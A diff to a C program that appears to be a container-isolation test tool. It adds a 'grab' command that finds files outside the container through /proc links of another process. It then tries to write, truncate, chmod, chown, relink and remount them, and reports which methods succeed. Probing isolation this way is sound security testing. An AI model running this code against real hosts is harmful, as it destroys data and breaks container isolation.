@@ -24,6 +24,7 @@
 #include <sys/un.h>
 #include <sys/utsname.h>
 #include <sys/vfs.h>
+#include <sys/xattr.h>
 #include <sys/wait.h>
 #include <termios.h>
 #include <time.h>
@@ -349,13 +350,114 @@ static int do_scribble(char **argv)
 	return 0;
 }
 
+static const char *wanted;
+static long found, looked;
+
+/* Every way to change a file that is known by its link in /proc only; what worked is printed. */
+static char grabbed[1024];
+
+static void got(const char *way, int ok)
+{
+	if (ok && strlen(grabbed) + strlen(way) + 2 < sizeof(grabbed))
+		strcat(strcat(grabbed, " "), way);
+}
+
+static void got_open(const char *way, const char *path)
+{
+	int fd = open(path, O_WRONLY | O_CLOEXEC);
+
+	got(way, fd >= 0);
+	close(fd);
+}
+
+static void grab(const char *path)
+{
+	struct {
+		uint64_t set, clr, propagation, userns;
+	} attr = { .clr = 1 /* MOUNT_ATTR_RDONLY */ };
+	char link[64];
+	long flags = 0;
+	int fd;
+
+	got_open("write", path);
+	got("truncate", !truncate(path, 0));
+	got("chmod", !chmod(path, 0777));
+	got("chown", !chown(path, 1, 1));
+	got("utimes", !utimensat(AT_FDCWD, path, NULL, 0));
+	got("xattr", !setxattr(path, "trusted.x", "x", 1, 0));
+	got("link", !linkat(AT_FDCWD, path, AT_FDCWD, "/tmp/linked", AT_SYMLINK_FOLLOW));
+	fd = open(path, O_RDONLY | O_CLOEXEC);
+	got("setflags", fd >= 0 && !ioctl(fd, _IOW('f', 2, long), &flags));
+	got("remount", !mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
+	got("setattr", !syscall(442, AT_FDCWD, path, 0, &attr, sizeof(attr)));
+	if (fd >= 0 && !syscall(442, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr)))
+		got("setattr-fd", 1);
+	got_open("write-after", path);
+	close(fd);
+	fd = open("/tmp/target", O_WRONLY | O_CREAT | O_CLOEXEC, 0700);
+	close(fd);
+	if (!mount(path, "/tmp/target", NULL, MS_BIND, NULL)) {
+		got("bind", 1);
+		mount(NULL, "/tmp/target", NULL, MS_REMOUNT | MS_BIND, NULL);
+		got_open("bind-write", "/tmp/target");
+		umount2("/tmp/target", MNT_DETACH);
+	}
+	fd = syscall(428, AT_FDCWD, path, 1 | O_CLOEXEC); /* OPEN_TREE_CLONE */
+	if (fd >= 0) {
+		got("clone", 1);
+		syscall(442, fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
+		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
+		got_open("clone-write", link);
+	}
+	close(fd);
+}
+
+static void grab_in(const char *dir)
+{
+	struct dirent *e;
+	char path[600], to[300];
+	ssize_t n;
+	DIR *d = opendir(dir);
+
+	while (d && (e = readdir(d))) {
+		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
+		n = readlink(path, to, sizeof(to) - 1);
+		to[n < 0 ? 0 : n] = 0;
+		if (e->d_name[0] == '.' || n <= 0 || to[0] != '/' || !strncmp(to, "/bin/", 5) ||
+		    !strncmp(to, "/dev/", 5) || !strncmp(to, "/tmp/", 5) || !strncmp(to, "/proc/", 6))
+			continue;
+		looked++;
+		grab(path);
+	}
+	if (d)
+		closedir(d);
+}
+
+/* The files of process PID that do not lie in the container. */
+static int do_grab(char **argv)
+{
+	char dir[100], to[300];
+	ssize_t n;
+
+	snprintf(dir, sizeof(dir), "/proc/%s/exe", argv[0]);
+	n = readlink(dir, to, sizeof(to) - 1);
+	to[n < 0 ? 0 : n] = 0;
+	if (n > 0 && strncmp(to, "/bin/", 5)) {
+		looked++;
+		grab(dir);
+	}
+	snprintf(dir, sizeof(dir), "/proc/%s/fd", argv[0]);
+	grab_in(dir);
+	snprintf(dir, sizeof(dir), "/proc/%s/map_files", argv[0]);
+	grab_in(dir);
+	printf("grab looked %d got:%s\n", looked > 0, grabbed);
+	return 0;
+}
+
 /*
  * CVE-2016-9962: looks through the descriptors, root and cwd of other processes for a way to
  * a file that only the host has (argument: its absolute path there).
  */
-static const char *wanted;
-static long found, looked;
-
 static void spy(const char *pid, const char *path)
 {
 	char dir[300], at[900];
@@ -579,6 +681,7 @@ static const struct verb {
 	{ "ids", 0, do_ids },
 	{ "seize", 1, do_seize },
 	{ "overhear", 2, do_overhear },
+	{ "grab", 1, do_grab },
 	{ "spy", 2, do_spy },
 	{ "witness", 0, do_witness },
 	{ "reaper", 1, do_reaper },
